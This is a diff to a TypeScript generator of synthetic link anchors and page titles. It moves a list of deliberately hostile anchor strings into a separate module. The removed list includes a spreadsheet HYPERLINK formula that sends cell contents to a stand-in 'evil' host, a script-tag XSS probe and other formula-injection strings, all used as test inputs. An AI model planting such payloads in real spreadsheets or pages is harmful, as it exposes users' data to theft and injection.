@@ -2,7 +2,9 @@
 // numbers; distinct numbers give distinct names and anchors. Some are hostile on purpose, as web text is.
 // Knows nothing of requests.
 import { mix, pick } from "./hash.ts";
-import type { LinkGraph } from "./link-graph.ts";
+import { COMMON_HOSTILE_TEXTS, HOSTILE_TEXTS } from "./hostile-texts.ts";
+import { LEADING_ANCHORS, type LinkGraph } from "./link-graph.ts";
+import { anyHostileText } from "./oddities.ts";
 import { SUFFIXES, WELL_KNOWN_REFERRERS } from "./origins.ts";
 import { siteNameOf } from "./site-names.ts";
 import { pageUrl } from "./site-pages.ts";
@@ -52,39 +54,18 @@ const GENERIC_ANCHORS: readonly string[] = [
   "Go Now",
 ];
 
-const HOSTILE_ANCHORS: readonly string[] = [
-  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
-  "+1 for this",
-  "-1",
-  "@SUM(1+1)",
-  "'=1+1",
-  "\tindented",
-  "=1+1",
-  "<script>alert(1)</script>",
-  '"quoted, with comma"',
-  "two\nlines",
-  "שלום עולם",
-  "🔥🔥 Top 10 🔥🔥",
-  "1/2",
-  "very long anchor ".repeat(40).trim(),
-  "<b>bold</b> &amp; more",
-  "TRUE",
-  "0012",
-  "#REF!",
-  "日本語のリンク",
-];
-
 /** The anchor with a number: brand first, the empty text third, odd ones sprinkled in, phrases at the end. */
 export function anchorText(graph: LinkGraph, anchor: number): string {
   const { root, hash } = graph.profile;
   const brand = capitalised(siteNameOf(root).label);
   const leading = [brand, root, "", pageUrl(graph.pages, 0), `${brand} `, `www.${root}`, `${brand} online`];
+  if (anchor >= graph.plainAnchorCount) return HOSTILE_TEXTS[anchor - graph.plainAnchorCount]?.text ?? "";
   const lead = leading[anchor];
   if (lead !== undefined) return lead;
-  const position = anchor - leading.length;
+  const position = anchor - LEADING_ANCHORS;
   // Two plain ones, then an odd one.
   const round = Math.floor(position / 3);
-  const special = position % 3 === 2 ? HOSTILE_ANCHORS[round] : GENERIC_ANCHORS[round * 2 + (position % 3)];
+  const special = position % 3 === 2 ? COMMON_HOSTILE_TEXTS[round]?.text : GENERIC_ANCHORS[round * 2 + (position % 3)];
   if (special !== undefined) return special;
   const [left, right] = wordPair((position + (hash % 5_000)) % PAIRS);
   return `${left} ${right}`;
@@ -94,7 +75,7 @@ export function anchorText(graph: LinkGraph, anchor: number): string {
 export function pageTitle(siteName: string, hash: number): string {
   const kind = hash % 40;
   if (kind === 0) return "";
-  if (kind === 1) return pick(HOSTILE_ANCHORS, mix(hash, 1));
+  if (kind === 1) return anyHostileText(hash);
   const [left, right] = wordPair(mix(hash, 2));
   const end = kind < 6 ? " " : "";
   return `${capitalised(left)} ${right} ${pick(["guide", "review", "ideas", "news", "tips"], mix(hash, 3))} – ${siteName}${end}`;
